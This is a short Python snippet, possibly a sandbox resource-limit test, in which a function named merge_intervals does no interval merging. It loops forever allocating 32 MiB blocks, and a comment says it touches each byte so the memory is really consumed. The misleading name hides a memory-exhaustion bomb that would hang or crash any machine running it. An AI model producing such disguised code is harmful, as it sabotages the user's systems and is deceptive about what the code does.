def merge_intervals(intervals):
    # Touches every byte it allocates, so the memory is really used.
    hoard = []
    while True:
        hoard.append(b"\x01" * (32 << 20))
